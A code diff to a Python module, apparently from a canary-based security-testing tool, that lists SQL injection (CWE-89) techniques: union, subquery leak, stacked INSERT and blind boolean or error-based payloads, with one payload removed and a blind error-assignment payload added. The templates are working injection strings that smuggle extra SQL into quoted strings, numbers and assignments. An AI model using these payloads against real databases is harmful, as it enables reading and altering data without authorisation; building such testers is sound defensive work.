@@ -1,7 +1,8 @@
 """SQL (CWE-89): reading rows that a query would not give, reading another table, changing one.
 
 Positions: a quoted string, a number or name, both in parentheses. `blind` techniques read single
-bits off two answers that differ: `{condition}` stands for a question about the canary.
+bits off two answers that differ: `{condition}` stands for a question about the canary, `{example}` for
+the slot's honest value.
 """
 
 from __future__ import annotations
@@ -45,7 +46,7 @@ def _union(id: str, before: str, after: str, *, representative: bool = False) ->
 
 
 def _blind(id: str, template: str) -> Technique:
-    return Technique(id, lambda aim: (Payload(template),))
+    return Technique(id, lambda aim: (Payload(template.replace("{example}", aim.example)),))
 
 
 def _columns(aim: Aim) -> tuple[Payload, ...]:
@@ -69,11 +70,11 @@ TECHNIQUES = (
     _union("sql.union.number", "0", ""),
     _leak("sql.subquery.string", "x'||{leak}||'"),
     _leak("sql.subquery.number", "{leak}"),
-    _leak("sql.assignment.name", "body = {leak}, body"),
     _leak("sql.stacked.string", "x'; INSERT INTO stockade_canary VALUES ({leak}); -- "),
     _leak("sql.stacked.number", "0; INSERT INTO stockade_canary VALUES ({leak})"),
     _blind("sql.blind.string", "x' OR {condition} OR 'x'='"),
     _blind("sql.blind.error-string", f"x'||{_ERROR_UNLESS}||'"),
     _blind("sql.blind.error-number", _ERROR_UNLESS),
+    _blind("sql.blind.error-assignment", f"rowid = rowid + 0 * {_ERROR_UNLESS}, {{example}}"),
     Technique("sql.column.sensitive", _columns),
 )
